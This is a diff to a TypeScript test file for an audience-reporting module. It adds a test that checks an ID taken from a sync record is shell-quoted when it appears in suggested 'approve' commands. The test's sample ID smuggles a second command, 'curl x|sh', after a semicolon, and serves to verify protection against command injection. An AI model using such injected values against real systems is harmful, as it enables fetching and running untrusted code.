@@ -3,7 +3,12 @@
 import { expect, test } from "vitest";
 
 import type { PartitionState } from "../../../src/audience/partition-state.ts";
-import { audiencesOf, restoreProblems, watchAudiences } from "../../../src/audience/report.ts";
+import {
+  approvalProblems,
+  audiencesOf,
+  restoreProblems,
+  watchAudiences,
+} from "../../../src/audience/report.ts";
 import { createMetrics } from "../../../src/telemetry/instruments.ts";
 import { AudienceWorld } from "../../support/worlds/audience-world.ts";
 import { MemoryStores } from "../../support/worlds/memory-stores.ts";
@@ -146,6 +151,12 @@ test("while a store is built its counts are absent, and a sentence says how far 
   opened = state;
   expect(healthProblems()).toEqual([]);
   expect(await metrics.text()).toContain("switchyard_audience_members 0\n");
+});
+
+test("an ID from a sync record is quoted in the advice", () => {
+  const awaitingApproval = { syncId: "s", removals: 3, sinceMs: 0 };
+  const [text] = approvalProblems([{ id: "vip; curl x|sh # it's", awaitingApproval }]);
+  expect(text).toContain("run switchyard audience approve 'vip; curl x|sh # it'\\''s'");
 });
 
 test("audiences of open stores are reported, with the sync that awaits approval", () => {
